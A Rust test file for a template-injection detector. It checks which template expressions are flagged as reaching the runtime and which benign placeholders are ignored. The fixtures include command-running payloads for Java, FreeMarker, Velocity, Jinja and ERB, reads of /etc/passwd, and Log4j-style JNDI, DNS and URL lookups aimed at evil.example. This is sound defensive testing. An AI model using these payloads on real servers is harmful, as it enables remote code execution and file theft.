use super::*;

fn found(text: &str) -> Vec<(&str, bool)> {
    template_expressions(text.as_bytes())
        .into_iter()
        .map(|e| (text.get(e.start..e.end).unwrap_or_default(), e.runtime))
        .collect()
}

#[test]
fn expressions_that_compute_are_found() {
    assert_eq!(found("{{7*7}}"), [("{{7*7}}", false)]);
    assert_eq!(found("a=${7*7}&b"), [("${7*7}", false)]);
    assert_eq!(found("#{ 7 * 7 }"), [("#{ 7 * 7 }", false)]);
    assert_eq!(found("<%= 7 * 7 %>"), [("<%= 7 * 7 %>", false)]);
    assert_eq!(found("${{7*7}}"), [("{{7*7}}", false)]);
    assert_eq!(found("{{7*'7'}}"), [("{{7*'7'}}", false)]);
    assert_eq!(found("@(1+2)"), [("@(1+2)", false)]);
    assert_eq!(found("[[5*5]]"), [("[[5*5]]", false)]);
    assert_eq!(found("{{config.items()}}"), [("{{config.items()}}", false)]);
    assert_eq!(found("{{ request }}"), [("{{ request }}", false)]);
    assert_eq!(found("{$smarty.version}"), [("{$smarty.version}", false)]);
    assert_eq!(found("{{{7*7}}}"), [("{{7*7}}", false)]);
    assert_eq!(
        found("${script:javascript:java.lang.Runtime.getRuntime().exec('id')}"),
        [(
            "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
            true
        )]
    );
    assert_eq!(found("%{7*7}"), [("%{7*7}", false)]);
    assert_eq!(found("<%= File.open('/etc/passwd').read %>").len(), 1);
    for lookup in [
        "${script:javascript:7*7}",
        "${dns:address|x.evil.example}",
        "${url:UTF-8:https://x.evil.example/}",
        "${file:UTF-8:/etc/passwd}",
    ] {
        assert_eq!(found(lookup), [(lookup, true)], "{lookup}");
    }
    // Filters that take a function's name, or a call on the name
    // ahead of them, are no placeholder's.
    for text in [
        "{{ name|sort('passthru') }}",
        "{{ name.upper()|default('x') }}",
        "{{ config.items()|e }}",
        "{{ request|default(7*7) }}",
        "{{ x|default(y()) }}",
    ] {
        assert_eq!(found(text).len(), 1, "{text}");
    }
    assert_eq!(
        found("{{['id']|filter('system')}}"),
        [("{{['id']|filter('system')}}", true)]
    );
    assert_eq!(found("{% set x = 7*7 %}"), [("{% set x = 7*7 %}", false)]);
    assert_eq!(found("{% debug %}"), [("{% debug %}", false)]);
    let dunder = "{% for c in ''.__class__.__mro__[1].__subclasses__() %}";
    assert_eq!(found(dunder), [(dunder, true)]);
    // Jinja's whitespace control changes nothing; a loop over an
    // engine's own object computes.
    let trimmed = "{%- for c in ''.__class__.__mro__[1].__subclasses__() -%}";
    assert_eq!(found(trimmed), [(trimmed, true)]);
    assert_eq!(found("{%- import os -%}"), [("{%- import os -%}", true)]);
    assert_eq!(
        found("{% for k in config %}"),
        [("{% for k in config %}", false)]
    );
    // ERB running a shell command; FreeMarker reading a file, reaching
    // the class loader, and its square-bracket interpolation.
    for (text, runtime) in [
        ("<%= `id` %>", true),
        ("<%= %x(id) %>", true),
        (r#"<#include "/etc/passwd">"#, true),
        (
            "<#assign classloader=article.class.protectionDomain.classLoader>",
            true,
        ),
        ("[=7*7]", false),
    ] {
        assert_eq!(found(text), [(text, runtime)], "{text}");
    }
    assert_eq!(
        found("${T(java.lang.Runtime).getRuntime().exec('id')}"),
        [("${T(java.lang.Runtime).getRuntime().exec('id')}", true)]
    );
    assert_eq!(
        found("{{''.__class__.__mro__[2].__subclasses__()}}"),
        [("{{''.__class__.__mro__[2].__subclasses__()}}", true)]
    );
    // FreeMarker's directive building a class that runs commands, then
    // the call of it.
    assert_eq!(
        found(r#"<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}"#),
        [
            (
                r#"<#assign ex="freemarker.template.utility.Execute"?new()>"#,
                true
            ),
            (r#"${ex("id")}"#, false)
        ]
    );
    // Velocity: a directive that computes, and references with no
    // delimiter that reach the runtime.
    assert_eq!(found("#set($x=7*7)$x"), [("#set($x=7*7)", false)]);
    let chain = r#"$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")"#;
    assert_eq!(found(&format!(r#"#set($e="e");{chain}"#)), [(chain, true)]);
    let class = r#"$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")"#;
    assert_eq!(found(&format!("a {class} b")), [(class, true)]);
    // The quiet formal reference, with its '}' only.
    let quiet = r#"$!{e.getClass().forName("java.lang.Runtime")}"#;
    assert_eq!(found(&format!("a {quiet} b")), [(quiet, true)]);
    assert!(found(r#"$!{e.getClass().forName("x") b"#).is_empty());
    // FreeMarker's square-bracket syntax.
    let square = r#"[#assign ex="freemarker.template.utility.Execute"?new()]"#;
    assert_eq!(found(square), [(square, true)]);
    // A reference inside a delimited expression is part of it.
    assert_eq!(
        found("${$e.getClass().forName('x')}"),
        [("${$e.getClass().forName('x')}", true)]
    );
}

/// An expression written in the input is one warning, however many
/// layers of escapes its body holds (the component's last layer is
/// compared with it fully decoded).
#[test]
fn an_expression_as_written_is_not_found_again_decoded() {
    let url = b"https://v.example/?q={{7*7%252B1}}";
    let a = crate::analyze(url, &crate::Options::default());
    let found = a
        .warnings
        .iter()
        .filter(|w| w.code == WarningCode::TemplateInjection)
        .count();
    assert_eq!(found, 1);
}

/// Placeholders left unrendered, Log4j lookups, text.
#[test]
fn placeholders_and_lookups_are_not_expressions() {
    for text in [
        "{{contact.email}}",
        "{{ first_name }}",
        "${name}",
        "${env:HOME}",
        "${jndi:ldap://evil.example/a}",
        "#{id}",
        "{{ customer.email | url_encode }}",
        "{{}}",
        "{{7*7",
        "@user(1)",
        "[[wiki link]]",
        "a{b}c",
        "{{__CAMPAIGN_ID__}}",
        "${__CLICK_ID__}",
        "{{ request.path }}",
        "{{ settings.logo | img_url }}",
        "[[Mercury_(planet)]]",
        "{{2024-01-01}}",
        "[[1%2C2]%2C[3%2C4]]",
        "{{ 50%25_off }}",
        "{% unsubscribe_link %}",
        "{{ product.images[0] }}",
        "{{ contact.last_imported }}",
        "<%= user_id %>",
        "<%= @user.email %>",
        // Velocity and FreeMarker text that reaches nothing; a '$' in
        // a name.
        "$Department",
        "$price.total()",
        "$!user.getName()",
        // Page script and text whose arguments name runtime words.
        "$scope.open()",
        "$http.get('/api/require')",
        "$j('#popup').dialog('open')",
        "$AAPL(open)",
        "Ke$ha(?ref=open-source",
        "$x.getClass(",
        "micro$oft",
        "<#if user??>",
        "{{contact.first_name|default('there')}}",
        "{% if contact.first_name %}Hi {{ contact.first_name }}{% endif %}",
        r#"{% assign name = first_name | default: "there" %}"#,
        "{% for item in order.items %}",
        "$(function(){$('#menu').show()})",
        "<#assign x=1>",
        "[=name]",
        "{{ date | date('Y-m-d') }}",
        "{{ price|round(2)|e }}",
        "{{ order.date|date('F j, Y') }}",
        "{{ price|number_format(2, '.', ',') }}",
        "{{ name|default('there', true) }}",
        "{{ 'now'|date('Y') }}",
        "{%- if contact.first_name -%}",
        "[#if user??]",
        "?ids[#1]",
        "#set($a = $b)",
        "#section-2",
    ] {
        assert!(found(text).is_empty(), "{text}: {:?}", found(text));
    }
}

#[test]
fn opens_is_the_syntaxes_openers() {
    for a in 0..=255u8 {
        for b in 0..=255u8 {
            let pair = [a, b];
            assert_eq!(
                opens(&pair),
                SYNTAXES.iter().any(|s| s.open.starts_with(&pair)),
                "{pair:?}"
            );
        }
    }
}

#[test]
fn openers_without_closers_stay_linear() {
    let many = "{{".repeat(200_000);
    assert!(found(&many).is_empty());
    let mixed = "{{${#{<%[[@(".repeat(50_000);
    assert!(found(&mixed).is_empty());
    let probes = "{{7*7}}".repeat(10_000);
    assert_eq!(found(&probes).len(), 10_000);
    // Openers sharing one far closer: each body is read once.
    // References and directives without ends: each read once.
    for many in [
        "$a.b(",
        "$a.",
        "$a.b($",
        "#set(",
        "<#",
        "[#",
        "$!{a.getClass()",
    ] {
        assert!(found(&many.repeat(100_000)).is_empty(), "{many}");
    }
    // Delimited expressions and references in turn: merged in one pass.
    let mixed = "${7*7}$a.getClass()".repeat(50_000);
    assert_eq!(found(&mixed).len(), 100_000);
    for opener in ["{{a", "${a", "[[a", "@(a"] {
        let shared = opener.repeat(100_000) + "}})]]";
        assert!(found(&shared).is_empty(), "{opener}");
    }
}
